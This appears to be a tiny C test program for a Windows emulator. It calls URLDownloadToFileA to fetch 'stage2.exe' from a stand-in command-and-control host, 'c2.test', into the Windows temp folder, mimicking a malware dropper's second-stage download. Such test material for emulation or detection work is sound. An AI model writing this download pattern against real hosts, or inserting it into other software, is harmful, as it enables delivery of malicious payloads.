/* Harmless test program: URLDownloadToFileA from a reserved .test host (the emulator fakes it). */
#include <windows.h>
#include <urlmon.h>

int main(void) {
    HRESULT hr = URLDownloadToFileA(NULL, "http://c2.test/stage2.exe", "C:\\Windows\\Temp\\stage2.exe", 0, NULL);
    return SUCCEEDED(hr) ? 0 : 1;
}
